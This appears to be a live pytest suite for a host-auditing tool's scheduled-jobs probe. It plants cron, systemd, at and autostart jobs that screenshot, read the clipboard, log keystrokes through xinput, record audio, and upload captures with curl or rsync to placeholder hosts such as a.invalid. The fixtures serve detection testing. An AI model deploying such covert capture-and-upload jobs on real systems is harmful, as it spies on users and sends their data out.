"""Real jobs in the real places, real loops on a display; none of them is waited for."""

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from auditor.model.capability import Basis
from auditor.model.observation import MarkType
from auditor.probes.linux.scheduled_jobs import PROBE
from tests.live.places import closed, gaps_of_nobody, observed, placed, running

pytestmark = [
    pytest.mark.live,
    pytest.mark.needs("root"),
    pytest.mark.tried("scheduled-jobs", "programs"),
]

NAME = "auditor-test-job"


def naming(path):
    """Return the observations that name a path, or a process by its number."""
    return [
        item
        for item in observed(PROBE)
        if item.pid == path or str(path) in {item.arguments.get("path"), *_marked(item)}
    ]


def _marked(item):
    return {mark.value for mark in item.marks}


def only(found):
    (seen,) = found
    return seen


def takes(seen, capability, basis=Basis.CONFIGURED):
    return (seen.capability, seen.basis) == (capability, basis)


def test_the_systems_own_jobs_are_counted_and_none_is_named():
    counted = [item for item in observed(PROBE) if item.message == "jobs-counted"]
    assert only(counted).arguments["count"] > 5
    named = [item for item in observed(PROBE) if item.pid == 0 and item.basis is not None]
    assert named == []


def test_a_picture_every_five_minutes_by_cron():
    line = "*/5 * * * * nobody DISPLAY=:0 scrot /var/tmp/shots/%s.png\n"
    with placed(f"/etc/cron.d/{NAME}", line) as place:
        seen = only(naming(place))
    assert takes(seen, "screen.image")
    assert (seen.message, seen.arguments["schedule"]) == ("job-takes", "*/5 * * * *")
    assert (seen.arguments["tool"], seen.arguments["user"]) == ("scrot", "nobody")


def test_a_renamed_copy_is_told_by_its_bytes(tmp_path):
    copy = tmp_path / "kworker"
    shutil.copy(shutil.which("scrot"), copy)
    with placed(f"/etc/cron.d/{NAME}", f"@hourly root {copy} /var/tmp/x.png\n") as place:
        seen = only(naming(place))
    assert takes(seen, "screen.image")
    assert seen.arguments["tool"] == "scrot"


def test_a_changed_copy_is_told_by_the_functions_it_names(tmp_path):
    copy = tmp_path / "kworker"
    copy.write_bytes(Path(shutil.which("scrot")).read_bytes() + b"\0")
    copy.chmod(0o755)
    with placed(f"/etc/cron.d/{NAME}", f"@hourly root {copy} /var/tmp/x.png\n") as place:
        seen = only(naming(place))
    assert takes(seen, "screen.image", Basis.CAPABLE)


def test_an_innocent_job_of_an_own_program_is_a_mere_fact(tmp_path):
    copy = tmp_path / "scrot"  # only the name says so
    shutil.copy("/bin/ls", copy)
    innocent = tmp_path / "backup"
    shutil.copy("/bin/ls", innocent)
    with placed(f"/etc/cron.d/{NAME}", f"@hourly root {innocent} /\n") as place:
        seen = only(naming(place))
    assert (seen.message, seen.basis) == ("job-own-program", None)


def test_what_a_job_only_mentions_is_not_what_it_does():
    line = "@daily root command -v scrot >/dev/null || echo scrot is gone # maim x\n"
    with placed(f"/etc/cron.d/{NAME}", line) as place:
        assert naming(place) == []


def test_a_script_that_a_timer_runs_is_read(tmp_path):
    script = tmp_path / "sync.sh"
    script.write_text(
        "#!/bin/sh\nF=$(mktemp)\nimport -window root $F\ncurl -T $F https://a.invalid/\n"
    )
    script.chmod(0o755)
    units = Path("/etc/systemd/system")
    timer = "[Timer]\nOnCalendar=*:0/10\n[Install]\nWantedBy=timers.target\n"
    service = f"[Service]\nType=oneshot\nExecStart=-{script}\n"
    link = units / "timers.target.wants" / f"{NAME}.timer"
    with (
        placed(units / f"{NAME}.timer", timer) as place,
        placed(units / f"{NAME}.service", service),
    ):
        assert naming(script) == []  # nothing switches it on
        link.parent.mkdir(exist_ok=True)
        link.symlink_to(place)
        try:
            seen = only(naming(script))
            (units / f"{NAME}.service").unlink()
            (units / f"{NAME}.service").symlink_to("/dev/null")
            assert naming(script) == []  # masked
        finally:
            link.unlink()
    assert takes(seen, "screen.image")
    assert seen.message == "job-takes-and-sends"
    assert seen.arguments["schedule"] == "OnCalendar=*:0/10"
    assert {mark.type for mark in seen.marks} == {
        *(MarkType.SCRIPT, MarkType.UNIT, MarkType.SETTING)
    }


def test_a_script_behind_a_script_is_read_and_one_behind_that_is_not(tmp_path):
    third, second, first = (tmp_path / name for name in ("third", "second", "first"))
    third.write_text("#!/usr/bin/env python3\nimport mss\n")
    second.write_text(f"#!/bin/sh\nxclip -o\npython3 {third}\n")
    first.write_text(f"#!/bin/sh\nsh {second}\n")
    with placed(f"/etc/cron.d/{NAME}", f"@daily root sh {first}\n") as place:
        seen = only(naming(place))
    assert takes(seen, "clipboard.content")
    assert dict(seen.marks)[MarkType.SCRIPT] == str(second)


def test_an_own_script_does_not_hide_a_copy_among_the_systems_programs(tmp_path):
    script, copy = tmp_path / "x.sh", "/usr/bin/auditor-test-copy"
    script.write_text("#!/bin/sh\nauditor-test-copy /var/tmp/a.png\n")
    shutil.copy(shutil.which("scrot"), copy)
    try:
        with placed(f"/etc/cron.d/{NAME}", f"@daily root sh {script}\n") as place:
            seen = only(naming(place))
    finally:
        os.unlink(copy)
    assert takes(seen, "screen.image")


def test_a_drop_in_changes_what_a_service_runs(tmp_path):
    folder = Path("/run/systemd/system")
    service = "[Service]\nExecStart=/bin/true\n"
    dropped = "[Service]\nExecStart=\nExecStart=/usr/bin/arecord -d 60 /var/tmp/a.wav\n"
    with (
        placed(folder / f"{NAME}.service", service),
        placed(folder / "multi-user.target.wants" / f"{NAME}.service", ""),
    ):
        place = folder / f"{NAME}.service.d" / "more.conf"
        assert naming(place) == []
        with placed(place, dropped):
            assert takes(only(naming(place)), "microphone")


def test_a_desktops_start_is_read_and_hidden_is_not():
    entry = "[Desktop Entry]\nType=Application\nExec=sh -c 'xinput test-xi2 --root > ~/k'\n"
    place = f"/root/.config/autostart/{NAME}.desktop"
    with placed(place, entry):
        assert takes(only(naming(place)), "input.keystrokes.content")
    with placed(place, f"{entry}Hidden=true\n"):
        assert naming(place) == []


def test_a_job_of_at_is_read():
    text = "#!/bin/sh\n# atrun uid=0\nA=b; export A\ncd /root || {\n\t exit 1\n}\n"
    with placed(
        "/var/spool/cron/atjobs/a0000101a2b3c4", f"{text}xclip -o > /root/c\n"
    ) as place:
        assert takes(only(naming(place)), "clipboard.content")


def test_files_that_another_job_took_are_seen_to_be_sent(tmp_path):
    lines = (
        "*/5 * * * * root scrot /var/lib/shots/%s.png\n"
        "0 * * * * root rsync -a /var/lib/shots/ backup.invalid:/x\n"
        "0 1 * * * root rsync -a /home backup.invalid:/y\n"
    )
    with placed(f"/etc/cron.d/{NAME}", lines) as place:
        seen = naming(place)
    assert [item.message for item in seen] == ["job-takes", "job-sends-taken", "job-sends"]
    assert takes(seen[1], "screen.image")
    assert seen[2].basis is None


@pytest.mark.parametrize("own", [False, True])
def test_a_running_loop_is_found(display, tmp_path, own):
    grab = "scrot"
    if own:
        grab = tmp_path / "kworker"
        shutil.copy(shutil.which("scrot"), grab)
    loop = f"while :; do {grab} -o {tmp_path}/a.png; sleep 5; done"
    innocent = f"while :; do echo scrot > {tmp_path}/b; sleep 5; done"
    screen = {**os.environ, "DISPLAY": display}
    with (
        running("sh", "-c", loop, env=screen) as process,
        running("sh", "-c", innocent, env=screen) as other,
    ):
        seen = only(naming(process.pid))
        assert takes(seen, "screen.image")
        assert naming(other.pid) == []
        command = (sys.executable, "-m", "auditor", "audit", "--format", "json")
        options = ("--no-exit-codes", "-o", str(tmp_path / "evidence"))
        report = subprocess.run([*command, *options], stdout=subprocess.PIPE, check=True)
    programs = {
        process["pid"]: program
        for program in json.loads(report.stdout)["programs"]
        for process in program["processes"]
    }
    found = programs[process.pid]["capabilities"]
    assert [(item["capability"], item["bases"]) for item in found] == [
        ("screen.image", ["configured"])
    ]
    assert other.pid not in programs


def test_a_running_script_without_an_interpreters_line_is_read(tmp_path):
    script = tmp_path / "loop.sh"
    script.write_text("while sleep 5; do xclip -o >> /var/tmp/clips; done\n")
    with running("sh", script) as process:
        assert takes(only(naming(process.pid)), "clipboard.content")


def test_a_running_script_of_another_language_could_do_what_it_loads(tmp_path):
    script = tmp_path / "shots.py"
    script.write_text("import time\ntime.sleep(60)\nfrom PIL import ImageGrab\n")
    with running(sys.executable, script) as process:
        assert takes(only(naming(process.pid)), "screen.image", Basis.CAPABLE)


def test_a_running_loop_of_another_languages_code_could_do_what_it_calls():
    code = "import os, time\nwhile True: time.sleep(60); os.system('scrot x')"
    with running(sys.executable, "-c", code) as process:
        assert takes(only(naming(process.pid)), "screen.image", Basis.CAPABLE)


def test_a_unit_made_for_once_runs():
    place = f"/run/systemd/transient/{NAME}.service"
    with placed(place, '[Service]\nExecStart="/usr/bin/xclip" "-o"\n'):
        assert takes(only(naming(place)), "clipboard.content")


def test_a_window_managers_start_is_read_and_its_keys_are_not():
    place = "/root/.config/i3/config"
    text = "bindsym Print exec scrot\nexec --no-startup-id xinput test-xi2 --root\n"
    with placed(place, text):
        assert takes(only(naming(place)), "input.keystrokes.content")


def test_an_ordinary_user_is_told_that_other_peoples_jobs_were_not_read():
    """The spool of crontabs and other homes are root's to read; that is no empty answer."""

    spool = "/var/spool/cron/crontabs"
    with placed(f"{spool}/alice", "* * * * * scrot x\n"), closed(spool):
        assert ("file-refused", spool, "root") in gaps_of_nobody(PROBE)
